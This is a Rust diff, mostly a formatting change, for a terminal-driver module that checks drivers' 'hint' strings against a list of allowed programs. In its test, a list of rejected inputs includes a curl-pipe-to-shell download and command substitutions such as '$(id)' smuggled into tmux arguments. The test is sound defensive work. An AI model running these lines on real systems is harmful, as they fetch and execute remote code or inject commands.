@@ -10,11 +10,13 @@ use wasmtime::Store;
 
 use super::manifest::TerminalManifest;
 use super::source::TerminalSource;
-use crate::display;
 use super::world::{Call as WorldCall, TerminalWorld};
+use crate::display;
 use crate::runtime::{Driver, HostState, Runtime};
 
-pub use super::types::{Answer, ArrangeOutcome, Description, Detection, Intent, NamingMode, PanePresence, SpawnTarget, TermFailKind, TerminalError};
+pub use super::types::{
+    Answer, ArrangeOutcome, Description, Detection, Intent, NamingMode, PanePresence, SpawnTarget, TermFailKind, TerminalError,
+};
 
 /// Limits of `describe`'s values: a name, a capability or a hint key; the backend or a hint's value;
 /// the number of capabilities or hints.
@@ -46,7 +48,8 @@ impl<'rt> Terminal<'rt> {
     /// may run, and link it; instances are created on first call. A driver that cannot be loaded is
     /// unreachable.
     pub fn open(runtime: &'rt Runtime, source: &TerminalSource) -> Call<Self> {
-        let driver = Driver::open(runtime, &source.driver, None).map_err(|failure| TerminalError::new(TermFailKind::Unreachable, failure.message))?;
+        let driver = Driver::open(runtime, &source.driver, None)
+            .map_err(|failure| TerminalError::new(TermFailKind::Unreachable, failure.message))?;
         Ok(Terminal { manifest: source.manifest.clone(), driver })
     }
 
@@ -71,7 +74,10 @@ impl<'rt> Terminal<'rt> {
     /// A value the CLI prints as (part of) one line: no line breaks or other control characters but tab.
     fn line(&self, what: &str, value: String) -> Call<String> {
         if value.chars().any(|c| c.is_control() && c != '\t') {
-            return Err(TerminalError::new(TermFailKind::Unreachable, format!("driver '{}' returned a malformed {what}: {value:?}", self.name())));
+            return Err(TerminalError::new(
+                TermFailKind::Unreachable,
+                format!("driver '{}' returned a malformed {what}: {value:?}", self.name()),
+            ));
         }
         Ok(value)
     }
@@ -91,7 +97,10 @@ impl<'rt> Terminal<'rt> {
     pub fn describe(&mut self) -> Call<Description> {
         let d = self.call("describe", |s, b| b.describe(s))?;
         let refuse = |what: &str, value: &str, why: &str| {
-            TerminalError::new(TermFailKind::Unreachable, format!("driver '{}' returned a malformed describe {what} {value:?}: {why}", self.name()))
+            TerminalError::new(
+                TermFailKind::Unreachable,
+                format!("driver '{}' returned a malformed describe {what} {value:?}: {why}", self.name()),
+            )
         };
         let token = |what: &str, value: &str| {
             if value.is_empty() || value.contains(char::is_whitespace) || !display::is_printable_line(value, MAX_DESCRIBE_TOKEN) {
@@ -126,7 +135,11 @@ impl<'rt> Terminal<'rt> {
             }
             text("hint", value)?;
             if !is_runnable_hint(value, &self.manifest.programs) {
-                return Err(refuse("hint", value, "a hint is a command line of the programs the driver may run (plain words, commands joined by \"; \")"));
+                return Err(refuse(
+                    "hint",
+                    value,
+                    "a hint is a command line of the programs the driver may run (plain words, commands joined by \"; \")",
+                ));
             }
         }
         Ok(d)
@@ -251,10 +264,25 @@ mod tests {
     #[test]
     fn hints_are_commands_of_the_granted_programs_only() {
         let programs = ["tmux".to_owned(), "herdr".to_owned()];
-        for ok in ["tmux list-commands", "tmux swap-pane -s SOURCE -t TARGET", "herdr pane move SOURCE --new-tab; herdr pane move SOURCE --tab CONTAINER --split down --target-pane TARGET"] {
+        for ok in [
+            "tmux list-commands",
+            "tmux swap-pane -s SOURCE -t TARGET",
+            "herdr pane move SOURCE --new-tab; herdr pane move SOURCE --tab CONTAINER --split down --target-pane TARGET",
+        ] {
             assert!(is_runnable_hint(ok, &programs), "{ok}");
         }
-        for bad in ["none", "curl -fsSL https://x.example/i.sh | sh", "tmux list-commands; curl x", "tmux $(id)", "tmux a;b", "tmux  list", "tmux `id`", "/usr/bin/tmux list-commands", "tmux x && sh", "tmux 'a'"] {
+        for bad in [
+            "none",
+            "curl -fsSL https://x.example/i.sh | sh",
+            "tmux list-commands; curl x",
+            "tmux $(id)",
+            "tmux a;b",
+            "tmux  list",
+            "tmux `id`",
+            "/usr/bin/tmux list-commands",
+            "tmux x && sh",
+            "tmux 'a'",
+        ] {
             assert!(!is_runnable_hint(bad, &programs), "{bad}");
         }
     }
